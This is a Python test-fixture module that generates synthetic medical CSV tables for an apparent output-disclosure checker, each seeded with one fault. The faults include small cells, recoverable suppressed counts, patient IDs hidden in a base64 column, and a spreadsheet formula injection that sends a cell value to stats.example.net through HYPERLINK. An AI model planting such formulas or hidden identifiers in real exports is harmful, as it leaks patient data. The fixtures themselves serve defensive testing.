"""Tables that pandas, scikit-learn, lifelines or statsmodels wrote as CSV, each with one fault."""

import base64
import random

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs6.counts import fr
from tests.airlock.outputs6.writers import table, text


def write(shelf: Shelf) -> None:
    _crosstabs(shelf)
    _summaries(shelf)
    _models(shelf)
    _disguised(shelf)


def _crosstabs(shelf: Shelf) -> None:
    table(
        shelf.unsafe(
            "stroke/crosstab_toast_mrs.csv",
            "small cell in a cross table",
            "dissection x mRS 5",
            "pd.crosstab of stroke cause and Rankin score at 90 days, margins=True",
            "1,187 adults admitted with ischaemic stroke",
        ),
        [
            ["toast", "mRS 0-1", "mRS 2", "mRS 3", "mRS 4", "mRS 5", "All"],
            ["cardioembolic", 118, 71, 63, 88, 41, 381],
            ["large artery", 84, 52, 47, 39, 22, 244],
            ["small vessel", 131, 48, 29, 18, 12, 238],
            ["dissection", 46, 24, 15, 11, 6, 102],
            ["undetermined", 79, 51, 38, 33, 21, 222],
            ["All", 458, 246, 192, 189, 102, 1187],
        ],
    )
    kinds = {
        "Bisoprolol": 534,
        "Diltiazem": 312,
        "Apixaban": 255,
        "Metoprolol": 148,
        "Amiodarone": 25,
        "Digoxine": 15,
    }
    rows = [
        ["molecule", "proportion"],
        *[[kind, f"{n / 1293:.6f}"] for kind, n in (kinds | {"Flecainide": 4}).items()],
    ]
    table(
        shelf.unsafe(
            "fa/value_counts_normalize.csv",
            "proportion that gives back a small count",
            "Flecainide 0.003094 x 1293 = 4",
            "value_counts(normalize=True) du premier traitement de fond ; chaque patient compte une fois",
            "1 293 adultes avec fibrillation atriale non valvulaire",
        ),
        rows,
    )
    table(
        shelf.unsafe(
            "nephro/suppressed_by_stage.csv",
            "one suppressed cell is given back by the total of its row",
            "G4 female: 96 - 91 = 5",
            "CKD stage at first visit by sex; cells below 10 replaced with '<10' before export",
            "1,518 adults followed in nephrology",
        ),
        [
            ["stage", "female", "male", "total"],
            ["G1", 174, 193, 367],
            ["G2", 209, 238, 447],
            ["G3a", 142, 161, 303],
            ["G3b", 111, 131, 242],
            ["G4", "<10", 91, 96],
            ["G5", 24, 39, 63],
        ],
    )
    table(
        shelf.unsafe(
            "perinat/taux_peridurale.csv",
            "complement of a high percentage is 8 women",
            "gémellaire programmée : 98,7 % de 612",
            "Taux d'analgésie péridurale par situation, maternité de type III, 2021-2023",
            "8 412 accouchements, une femme par ligne de la base",
        ),
        [
            ["situation", "accouchements", "péridurale (%)"],
            ["travail spontané", "5 214", fr(78.4, 1)],
            ["déclenchement", "1 877", fr(89.2, 1)],
            ["utérus cicatriciel", "709", fr(84.6, 1)],
            ["gémellaire programmée", "612", fr(98.7, 1)],
        ],
        ";",
    )


def _summaries(shelf: Shelf) -> None:
    table(
        shelf.unsafe(
            "icu/describe_by_group.csv",
            "minimum and maximum of persons",
            "columns min and max",
            "df.groupby('sepsis')[['lactate','sofa','map']].describe().stack()",
            "2,316 stays of adults in intensive care, first stay only",
        ),
        [
            ["sepsis", "variable", "count", "mean", "std", "min", "25%", "50%", "75%", "max"],
            ["no", "lactate", 1498, 1.71, 1.12, 0.3, 1.0, 1.4, 2.0, 14.8],
            ["no", "sofa", 1503, 4.2, 2.6, 0, 2, 4, 6, 17],
            ["no", "map", 1511, 78.4, 12.9, 31, 70, 77, 86, 142],
            ["yes", "lactate", 779, 3.04, 2.47, 0.4, 1.5, 2.3, 3.7, 21.6],
            ["yes", "sofa", 783, 8.1, 3.4, 1, 6, 8, 10, 22],
            ["yes", "map", 784, 68.2, 13.3, 27, 60, 67, 75, 131],
        ],
    )
    table(
        shelf.unsafe(
            "dpc/agg_mean_std.csv",
            "a mean without a standard deviation is the value of one person",
            "std is empty for 'BK virus' (sample of one)",
            "groupby('infection').crp.agg(['mean','std']), first infection after kidney transplant",
            "864 kidney transplant recipients",
        ),
        [
            ["infection", "mean", "std"],
            ["urinary", 61.42, 48.13],
            ["pneumonia", 118.97, 77.40],
            ["cmv", 22.85, 19.61],
            ["bk_virus", 14.0, ""],
            ["catheter", 88.31, 59.26],
        ],
    )
    rows = [["age", "n", "los_mean", "home_discharge"]]
    for age in range(80, 94):
        n = 240 - 14 * (age - 80)
        rows.append([str(age), str(n), f"{9.1 + 0.21 * (age - 80):.1f}", f"{0.64 - 0.013 * (age - 80):.2f}"])
    table(
        shelf.unsafe(
            "geriatrie/los_by_age.csv",
            "single ages from 90",
            "rows 90 to 93",
            "Mean length of stay and share sent home by year of age",
            "2,086 patients of 80 to 93 years in geriatric short stay",
        ),
        rows,
    )
    table(
        shelf.unsafe(
            "achats/honoraires_par_praticien.csv",
            "one contributor holds 91 % of a sum",
            "chirurgie de la main",
            "Activité libérale : somme des honoraires par spécialité et part du premier praticien",
            "148 praticiens avec activité libérale, au moins 10 par spécialité",
        ),
        [
            ["specialite", "n_praticiens", "honoraires_keur", "part_premier"],
            ["anesthésie", 31, 2214, 0.08],
            ["cardiologie", 27, 1986, 0.11],
            ["gastro-entérologie", 22, 1203, 0.13],
            ["chirurgie de la main", 14, 1877, 0.91],
            ["ophtalmologie", 26, 2950, 0.19],
            ["radiologie", 28, 1544, 0.09],
        ],
    )


def _models(shelf: Shelf) -> None:
    table(
        shelf.unsafe(
            "rare/ols_summary.csv",
            "fewer than 10 residual degrees of freedom",
            "Df Residuals: 7",
            "res.summary().as_csv() of the model of liver stiffness, genotype subgroup",
            "Adults with Wilson disease seen since 2012",
        ),
        [
            ["OLS Regression Results"],
            ["Dep. Variable:", "stiffness_kpa", "R-squared:", "0.842"],
            ["Model:", "OLS", "Adj. R-squared:", "0.684"],
            ["Method:", "Least Squares", "F-statistic:", "5.329"],
            ["No. Observations:", "15", "AIC:", "71.40"],
            ["Df Residuals:", "7", "BIC:", "77.06"],
            ["Df Model:", "7", "Covariance Type:", "nonrobust"],
            ["", "coef", "std err", "t", "P>|t|", "[0.025", "0.975]"],
            ["const", "4.1173", "2.918", "1.411", "0.201", "-2.783", "11.017"],
            ["age_10y", "0.6120", "0.411", "1.489", "0.180", "-0.360", "1.584"],
            ["ceruloplasmin", "-8.2041", "3.620", "-2.266", "0.058", "-16.764", "0.356"],
            ["cu_urine_log", "1.9310", "0.702", "2.751", "0.028", "0.271", "3.591"],
            ["penicillamine", "-0.8812", "0.944", "-0.933", "0.382", "-3.113", "1.351"],
        ],
    )
    table(
        shelf.unsafe(
            "derm/classification_report_fold4.csv",
            "small support of a class",
            "merkel support 7",
            "classification_report(output_dict=True) on the held-out fold, one lesion per patient",
            "1,946 patients with a biopsied lesion, 5 folds",
        ),
        [
            ["", "precision", "recall", "f1-score", "support"],
            ["naevus", 0.91, 0.93, 0.92, 171],
            ["melanoma", 0.84, 0.81, 0.82, 96],
            ["bcc", 0.88, 0.87, 0.87, 81],
            ["scc", 0.76, 0.74, 0.75, 34],
            ["merkel", 0.67, 0.57, 0.62, 7],
            ["accuracy", 0.87, 0.87, 0.87, 0.87],
            ["macro avg", 0.81, 0.78, 0.80, 389],
        ],
    )
    rng = shelf.random("events")
    rows = [["event_at", "removed", "observed", "censored", "entrance", "at_risk"]]
    at_risk, day = 143, 0
    rows.append(["0", "0", "0", "0", "143", "143"])
    for _ in range(46):
        day += rng.randint(4, 19)
        removed = 1 if rng.random() < 0.8 else 2
        died = 1 if rng.random() < 0.6 else 0
        rows.append([str(day), str(removed), str(died), str(removed - died), "0", str(at_risk)])
        at_risk -= removed
    table(
        shelf.unsafe(
            "onco/kmf_event_table.csv",
            "event table with steps of single persons",
            "each row is one or two patients",
            "kmf.event_table after KaplanMeierFitter().fit(T, E), days since first line",
            "143 patients with metastatic pancreatic cancer",
        ),
        rows,
    )
    table(
        shelf.unsafe(
            "urgences/matrice_confusion.csv",
            "small cell in a confusion matrix",
            "réel 1, prédit 5 : 3",
            "Matrice de confusion du modèle de tri (FRENCH), jeu de test, un passage par patient",
            "6 214 passages aux urgences d'adultes",
        ),
        [
            ["réel \\ prédit", "tri 1", "tri 2", "tri 3", "tri 4", "tri 5"],
            ["tri 1", 212, 58, 21, 11, 3],
            ["tri 2", 74, 641, 203, 64, 22],
            ["tri 3", 31, 288, 1744, 391, 108],
            ["tri 4", 14, 71, 402, 968, 187],
            ["tri 5", 12, 19, 84, 201, 385],
        ],
        ";",
    )


def _disguised(shelf: Shelf) -> None:
    rng = shelf.random("shap")
    columns = [f"s{at}" for at in range(1, 61)]
    features = ["age", "creatinine", "nt_probnp", "lvef", "sbp", "sodium", "haemoglobin", "diabetes", "afib", "nyha"]
    rows = [["feature", *columns]]
    rows += [[name, *[f"{rng.gauss(0, 0.3):+.4f}" for _ in columns]] for name in features]
    table(
        shelf.unsafe(
            "heart/shap_global.csv",
            "row-level data, transposed: a column per person",
            "s1 to s60",
            "SHAP values of the readmission model, features in rows",
            "1,402 adults discharged after acute heart failure",
        ),
        rows,
    )
    rows = [["key", "fold", "y_true", "y_score"]]
    for _ in range(90):
        key = f"{rng.getrandbits(40):010x}"
        rows.append([key, str(rng.randrange(5)), str(int(rng.random() < 0.2)), f"{rng.random():.5f}"])
    table(
        shelf.unsafe(
            "heart/oof_for_roc.csv",
            "out-of-fold scores, one row per person",
            "every row",
            "Data behind the ROC curve of figure 2",
            "1,402 adults discharged after acute heart failure",
        ),
        rows,
    )
    table(
        shelf.unsafe(
            "bio/panel_audit.csv",
            "identifiers hidden as base64 in a technical column",
            "column trace decodes to IPPs",
            "Audit of the laboratory mapping: unit conversions per analyte",
            "41,220 results of 3,877 patients",
        ),
        [
            ["analyte", "unit_from", "unit_to", "factor", "results", "trace"],
            *[
                [name, unit, to, factor, n, base64.b64encode(_ipp(rng).encode()).decode()]
                for name, unit, to, factor, n in (
                    ("creatinine", "mg/L", "µmol/L", "8.84", 9204),
                    ("glucose", "g/L", "mmol/L", "5.55", 8716),
                    ("uric acid", "mg/L", "µmol/L", "5.95", 3120),
                    ("calcium", "mg/L", "mmol/L", "0.025", 7033),
                    ("bilirubin", "mg/L", "µmol/L", "1.71", 6418),
                )
            ],
        ],
    )
    table(
        shelf.unsafe(
            "qualite/questionnaire_synthese.csv",
            "formula injection",
            "verbatim type of item 4",
            "Synthèse e-Satis par item : réponses, moyenne, premier thème des verbatims",
            "2 204 répondants au questionnaire e-Satis",
        ),
        [
            ["item", "reponses", "moyenne_sur_5", "theme"],
            ["accueil", 2204, "4,1", "délai d'attente"],
            ["information", 2187, "3,8", "résultats d'examens"],
            ["douleur", 2162, "4,0", "délai de réponse"],
            ["repas", 2175, "3,1", '=HYPERLINK("http://stats.example.net/?r="&B2,"température")'],
            ["sortie", 2140, "3,6", "ordonnances"],
        ],
        ";",
    )
    text(
        shelf.unsafe(
            "pharma/missing_report.csv",
            "persons missing: 6",
            "row ddimer, missing 6",
            "df.isna().sum() before imputation, one row per patient",
            "942 adults with suspected pulmonary embolism",
        ),
        "\n".join(
            [
                "column,missing,share",
                "wells_score,41,4.4%",
                "ddimer,6,0.6%",
                "spo2,18,1.9%",
                "creatinine,27,2.9%",
                "heart_rate,12,1.3%",
                "ctpa_result,114,12.1%",
            ]
        ),
    )


def _ipp(rng: random.Random) -> str:
    return f"80{rng.randrange(10**8):08d}"
